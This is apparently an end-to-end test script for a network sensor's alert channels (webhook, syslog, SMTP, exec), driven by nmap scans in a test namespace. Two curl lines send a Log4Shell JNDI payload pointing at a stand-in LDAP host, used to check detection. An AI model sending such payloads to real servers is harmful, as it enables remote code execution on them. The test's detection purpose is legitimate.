#!/bin/sh
# Alerts end to end: `mitsu run --alert-on any` in the sensor namespace with
# every channel at once, each pointed at a real receiver the test starts on
# 127.0.0.1 there (tests/alerts/receiver.py: HTTP webhook, a webhook that
# fails twice first, syslog over UDP and TCP, SMTP via aiosmtpd; an exec
# program), plus a dead webhook and an exec that hangs.  An nmap of 200
# ports gives exactly one aggregated contact alert at every channel; a scan
# from an ignored address gives none; capture goes on.
. "$(dirname "$0")/lib.sh"
HERE=$(cd "$(dirname "$0")/.." && pwd)
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3
netns_setup || { notok "namespace setup"; exit 1; }
DB=$WORK/store/mitsu.db
RX=$WORK/rx
mkdir -p "$RX"
cp "$HERE/alerts/exec_sink.sh" "$WORK/exec_sink.sh"
: >"$WORK/exec.jsonl"
chmod 755 "$WORK/exec_sink.sh"
chmod 666 "$WORK/exec.jsonl" # the sensor runs its channels as nobody

# a throwaway certificate for the STARTTLS relay, and the SMTP password
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$WORK/key.pem" -out "$WORK/cert.pem" \
	-days 1 -subj /CN=127.0.0.1 >/dev/null 2>&1
printf 's3cret pass\n' >"$WORK/smtp.pw"
ip netns exec "$SNS" "$PY" "$HERE/alerts/receiver.py" "$RX" --http 18080 --flaky 18081 --fail-first 2 \
	--syslog-udp 15514 --syslog-tcp 15515 --syslog-unix "$RX/log.sock" --smtp 12525 \
	--smtp-tls 12526 --smtps 12527 --cert "$WORK/cert.pem" --key "$WORK/key.pem" --user mitsu \
	--password 's3cret pass' --lifetime 240 >"$WORK/rx.log" 2>&1 &
RX_PID=$!
i=0
while [ $i -lt 100 ] && [ ! -e "$RX/ready" ]; do sleep 0.1; i=$((i + 1)); done
check "receivers up" [ -e "$RX/ready" ] || { cat "$WORK/rx.log"; exit 1; }

# half the alert options from the config file (values with '=' and ',')
cat >"$WORK/mitsu.conf" <<EOC
alert-on any
alert-on tags:log4shell
alert-window = 10
syslog udp://127.0.0.1:15514
email smtp://127.0.0.1:12525,from=mitsu@test.invalid,to=soc@test.invalid
EOC
chmod 644 "$WORK/mitsu.conf"
ip netns exec "$SNS" "$MITSU" run -i "$SIF" --store "$WORK/store" --stats-interval 0 --idle 2 --scans-rotate 2 \
	--config "$WORK/mitsu.conf" --alert-ignore "$CADDR6" \
	--webhook http://127.0.0.1:18080/hook --webhook http://127.0.0.1:18081/hook,json \
	--webhook http://127.0.0.1:1/dead,slack \
	--syslog tcp://127.0.0.1:15515,facility=local0 --syslog "unix:$RX/log.sock" \
	--email "smtp://127.0.0.1:12526,from=mitsu@test.invalid,to=soc@test.invalid,starttls,insecure,user=mitsu,password-file=$WORK/smtp.pw" \
	--email "smtps://127.0.0.1:12527,from=mitsu@test.invalid,to=tls@test.invalid,insecure,user=mitsu,password-file=$WORK/smtp.pw" \
	--exec "$WORK/exec_sink.sh,$WORK/exec.jsonl" --exec /bin/sleep,30 \
	--alert-timeout 2 --alert-retries 3 >"$WORK/run.log" 2>&1 &
SENSOR_PID=$!
i=0
while [ $i -lt 30 ] && ! grep -q 'mitsu run: sensor' "$WORK/run.log"; do sleep 0.1; i=$((i + 1)); done
sleep 0.5

cns timeout 60 nmap -n -Pn -sS -p 1-200 "$SADDR" >"$WORK/nmap4.txt" 2>&1
cns timeout 60 nmap -6 -n -Pn -sS -p 1-50 "$SADDR6" >"$WORK/nmap6.txt" 2>&1
check "nmap saw the 200 ports open" grep -q '200 open\|Not shown: 0\|^200/tcp *open' "$WORK/nmap4.txt"

# flows end after 2 s idle, the scans file rotates every 2 s, the window is 10 s
n=0
i=0
while [ $i -lt 600 ]; do
	n=$(grep -c "\"kind\":\"contact\",.*\"src_addr\":\"$CADDR\"" "$RX/web.jsonl" 2>/dev/null)
	[ "${n:-0}" -ge 1 ] && break
	sleep 0.1
	i=$((i + 1))
done
check "webhook got the contact alert" [ "${n:-0}" -ge 1 ]
# the flaky webhook needs 1 + 2 s of backoff; the dead channels give up after
# 4 attempts (1 + 2 + 4 s of backoff, the hanging exec 4 x 2 s more)
i=0
while [ $i -lt 300 ]; do
	[ "$(grep -c 'gave up' "$WORK/run.log")" -ge 2 ] && [ -s "$RX/flaky.jsonl" ] && break
	sleep 0.1
	i=$((i + 1))
done
sleep 2

contact_lines() { grep "\"kind\":\"contact\"" "$1" 2>/dev/null | grep -c "\"src_addr\":\"$2\""; }
check "webhook: exactly one contact alert for $CADDR" [ "$(contact_lines "$RX/web.jsonl" "$CADDR")" -eq 1 ]
line=$(grep "\"src_addr\":\"$CADDR\"" "$RX/web.jsonl" | head -1)
ports=$(echo "$line" | $PY -c 'import json,sys; d=json.loads(sys.stdin.read()); print(d["detail"]["port_count"])' 2>/dev/null)
check "it names the ports: $ports ports, $(echo "$line" | grep -o '"summary":"[^"]*"')" \
	sh -c "[ '${ports:-0}' -ge 195 ] && [ '${ports:-0}' -le 202 ] && echo '$line' | grep -q 'port scan' && echo '$line' | grep -q '\"ports\":\"1-200'"
check "ignored source $CADDR6: no alert at the webhook" [ "$(contact_lines "$RX/web.jsonl" "$CADDR6")" -eq 0 ]
check "flaky webhook failed twice, then got the alert (retries)" \
	sh -c "[ \$(wc -l <'$RX/flaky.jsonl.fails') -eq 2 ] && [ \$(grep -c '\"src_addr\":\"$CADDR\"' '$RX/flaky.jsonl') -eq 1 ]"
check "syslog UDP: one RFC 5424 line" \
	sh -c "[ \$(grep -c '^<132>1 [0-9T:.-]*Z [^ ]* mitsu [0-9]* contact \[mitsu@32473 kind=\"contact\" src=\"$CADDR\"\] $CADDR probed' '$RX/syslog_udp.txt') -eq 1 ]"
check "syslog TCP: one octet-counted RFC 5424 message" \
	sh -c "[ \$(grep -c '^<132>1 .* src=\"$CADDR\"\] $CADDR probed' '$RX/syslog_tcp.txt') -eq 1 ] && ! grep -q BADFRAME '$RX/syslog_tcp.txt'"
check "email: one message over SMTP" \
	sh -c "[ \$(grep -c '^Subject: mitsu contact alert: $CADDR probed' '$RX/mail.txt') -eq 1 ] && grep -q 'RCPT TO:soc@test.invalid' '$RX/mail.txt'"
check "email over STARTTLS and over smtps://, with AUTH: one message each" \
	sh -c "[ \$(grep -c '^Subject: mitsu contact alert: $CADDR probed' '$RX/mail_tls.txt') -eq 2 ] && [ \$(grep -c 'RCPT TO:soc@test.invalid TLS:True AUTH:True' '$RX/mail_tls.txt') -ge 1 ] && [ \$(grep -c 'RCPT TO:tls@test.invalid TLS:.* AUTH:True' '$RX/mail_tls.txt') -ge 1 ]"
check "syslog on a local socket: one RFC 5424 message" \
	sh -c "[ \$(grep -c '^<132>1 .* src=\"$CADDR\"\] $CADDR probed' '$RX/syslog_unix.txt') -eq 1 ]"
body=$(awk '/^Content-Transfer-Encoding: base64/{b=1; next} b && /^\.$/{exit} b' "$RX/mail.txt" | tr -d '\r\n' | base64 -d 2>/dev/null)
check "email body carries the alert JSON" sh -c "echo '$body' | grep -q '\"src_addr\":\"$CADDR\"'"
check "exec: one alert on stdin, environment set" \
	sh -c "[ \$(contact_lines_x=1; grep -c '\"kind\":\"contact\".*\"src_addr\":\"$CADDR\"' '$WORK/exec.jsonl') -eq 1 ] && grep -q 'env kind=contact src=$CADDR' '$WORK/exec.jsonl'"
check "no channel saw the ignored source" sh -c "! grep -q '$CADDR6' '$RX/syslog_udp.txt' '$RX/syslog_unix.txt' '$RX/mail.txt' '$RX/mail_tls.txt' '$WORK/exec.jsonl'"
check "the SMTP password is not logged" sh -c "! grep -q s3cret '$WORK/run.log'"
check "dead webhook reported (retried, gave up)" grep -q 'webhook:http://127.0.0.1:1: gave up' "$WORK/run.log"
check "hanging exec killed by the timeout and reported" grep -q 'exec:/bin/sleep: attempt .* killed after 2 s' "$WORK/run.log"
check "the dead webhook's path is not logged" sh -c "! grep -q '127.0.0.1:1/dead' '$WORK/run.log'"

# capture and analysis go on while two channels keep failing; --alert-on tags
cns curl -s -m 2 -H 'X-Api-Version: ${jndi:ldap://10.0.0.9/a}' "http://$SADDR:8080/after-alerts" -o /dev/null
n=0
i=0
while [ $i -lt 80 ]; do
	n=$("$MITSU" query --db "$DB" --csv "filter readable like 'after-alerts' | stats count(*) as n" 2>/dev/null | tail -1 | tr -d '\r')
	[ "$n" = 1 ] && break
	sleep 0.1
	i=$((i + 1))
done
check "capture and analysis continue (record after the alerts)" [ "$n" = 1 ]
i=0
while [ $i -lt 50 ] && ! grep -q '"kind":"tag"' "$RX/web.jsonl"; do sleep 0.1; i=$((i + 1)); done
check "--alert-on tags:log4shell: one tag alert" \
	sh -c "[ \$(grep -c '\"kind\":\"tag\".*\"src_addr\":\"$CADDR\".*\"dst_port\":8080.*\"tag\":\"log4shell\"' '$RX/web.jsonl') -eq 1 ]"
# SIGHUP: a new ignore rule from the config file applies at once
echo "alert-ignore $CADDR,port:8080" >>"$WORK/mitsu.conf"
kill -HUP "$SENSOR_PID"
i=0
while [ $i -lt 50 ] && ! grep -q 'alerts: reloaded 2 ignore rules' "$WORK/run.log"; do sleep 0.1; i=$((i + 1)); done
check "SIGHUP reloads the ignore rules" grep -q 'alerts: reloaded 2 ignore rules' "$WORK/run.log"
cns curl -s -m 2 -H 'X-Api-Version: ${jndi:ldap://10.0.0.9/b}' "http://$SADDR:8080/after-reload" -o /dev/null
i=0
while [ $i -lt 80 ]; do
	n=$("$MITSU" query --db "$DB" --csv "filter readable like 'after-reload' | stats count(*) as n" 2>/dev/null | tail -1 | tr -d '\r')
	[ "$n" = 1 ] && break
	sleep 0.1
	i=$((i + 1))
done
sleep 1
check "after the reload: the flow is recorded ($n), no new tag alert" \
	sh -c "[ '$n' = 1 ] && [ \$(grep -c '\"kind\":\"tag\"' '$RX/web.jsonl') -eq 1 ]"
t0=$(date +%s)
stop_sensor
t1=$(date +%s)
check "mitsu run exits 0 on SIGTERM within 30 s ($((t1 - t0)) s)" sh -c "[ '$SENSOR_RC' -eq 0 ] && [ $((t1 - t0)) -le 30 ]"
v6=$("$MITSU" sql --db "$DB" "select count(*) from flows where src_addr = '$CADDR6'" | tail -1)
check "the ignored source's flows were captured ($v6)" [ "${v6:-0}" -ge 40 ]
a4=$("$MITSU" sql --db "$DB" "select count(*) from alerts where kind = 'contact' and src_addr = '$CADDR' and summary like '%port scan%'" | tail -1)
a6=$("$MITSU" sql --db "$DB" "select count(*) from alerts where src_addr = '$CADDR6'" | tail -1)
check "SQLite: one port-scan alert for $CADDR ($a4), none for $CADDR6 ($a6)" sh -c "[ '$a4' -eq 1 ] && [ '$a6' -eq 0 ]"
check "counters logged" grep -q 'alerts: [0-9]* raised, [0-9]* contacts, [1-9][0-9]* ignored, 3 stored' "$WORK/run.log"
t=$("$MITSU" query --db "$DB" --alerts --csv 'filter kind = "tag" | fields tag, dst_port' | tail -1 | tr -d '\r')
check "mitsu query --alerts finds the tag alert ($t)" [ "$t" = "log4shell,8080" ]
kill "$RX_PID" 2>/dev/null
wait "$RX_PID" 2>/dev/null
exit 0
